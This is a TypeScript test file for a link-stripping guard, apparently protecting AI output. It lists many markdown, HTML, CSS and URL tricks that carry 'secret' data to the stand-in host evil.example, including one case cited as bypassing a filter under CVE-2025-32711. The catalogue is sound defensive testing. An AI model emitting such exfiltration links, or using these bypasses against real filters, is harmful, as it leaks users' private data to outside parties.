import { stripLinks } from '../../src/guard/stripLinks';

const ALLOWED = ['nas.company.example'];

test.each([
  { text: '![x](https://evil.example/?d=secret)', why: 'an image is fetched without a click' },
  { text: '[click](https://evil.example/?d=secret)', why: 'a link' },
  { text: '[click](<https://evil.example/?d=secret>)', why: 'a destination in angle brackets' },
  { text: '[click][1]\n\n[1]: https://evil.example/secret', why: 'a reference (CVE-2025-32711 passed by one)' },
  { text: '![x][1]\n\n[1]:\n   https://evil.example/secret', why: 'a reference with its address on the next line' },
  { text: '![x][1]\n\n> [1]: //evil.example/secret', why: 'a reference inside a quote, without a scheme' },
  { text: '![evil]\n\n[evil]: https&#58;//evil.example/secret', why: 'an entity hides the colon' },
  { text: '[x](https://nas.company.example\\@evil.example/secret)', why: 'an escape that the renderer takes away changes the host' },
  { text: '[x](https://nas.company.example&#64;evil.example/secret)', why: 'an entity changes the host' },
  { text: 'https://nas.company.example@evil.example/secret', why: 'what looks like the host is a user name' },
  { text: 'https://nas.company.example.evil.example/secret', why: 'the allowed host is only the beginning' },
  { text: '[![x](https://evil.example/a)](https://evil.example/secret)', why: 'an image inside a link' },
  { text: '[a [b] c](https://evil.example/secret)', why: 'brackets inside the label' },
  { text: '<img src="https://evil.example/secret">', why: 'HTML' },
  { text: '<IMG/SRC=//evil.example/secret', why: 'HTML that is not closed' },
  { text: '<p style="background:url(https://evil.example/secret)">', why: 'CSS fetches too' },
  { text: '<https://evil.example/secret>', why: 'an autolink' },
  { text: 'see https://evil.example/secret now', why: 'a bare address' },
  { text: 'see www.evil.example/secret now', why: 'an address without a scheme' },
  { text: '[x](javascript:fetch("//evil.example/secret"))', why: 'a script' },
  { text: '[x](data:text/html,evil.example/secret)', why: 'a page inside the address' },
  { text: '[x](ht[y](z)tps://evil.example/secret)', why: 'removing one link must not put another together' },
  { text: '[x](HTTPS://EVIL.example/secret)', why: 'upper case' },
])('$text leaves nothing to follow: $why', ({ text }) => {
  const stripped = stripLinks(text, ALLOWED);
  expect(stripped.text.toLowerCase()).not.toMatch(/evil\.example|javascript:|data:text|<img/);
  expect(stripped.removed.length).toBeGreaterThan(0);
});

test.each([
  { text: '見 [手冊](https://nas.company.example/a/b.pdf?x=1&y=2) 第 3 頁。', why: 'its host is allowed' },
  { text: 'https://NAS.company.example/a', why: 'hosts have no case' },
  { text: '[手冊][1]\n\n[1]: https://nas.company.example/a', why: 'a reference to an allowed host' },
  { text: 'a = b // c, and 1/2', why: 'two strokes alone are no address' },
  { text: '比例 3:2，見第 [1] 條 <5 mm>。', why: 'citations and comparisons are no links' },
])('$text stays: $why', ({ text }) => {
  expect(stripLinks(text, ALLOWED)).toEqual({ text, removed: [] });
});

test('the words of a link stay, and its host is reported', () => {
  expect(stripLinks('See [the manual](https://evil.example/m), page 3.', [])).toEqual({ text: 'See the manual, page 3.', removed: [{ kind: 'link', host: 'evil.example' }] });
});

test('a long hostile text is done in time', () => {
  const start = performance.now();
  for (const bit of ['[', '](', '![', '<a ', '[x]: ', 'a://', 'http:', '<a href=', '[x](']) stripLinks(bit.repeat(3000), ALLOWED);
  expect(performance.now() - start).toBeLessThan(10_000);
});
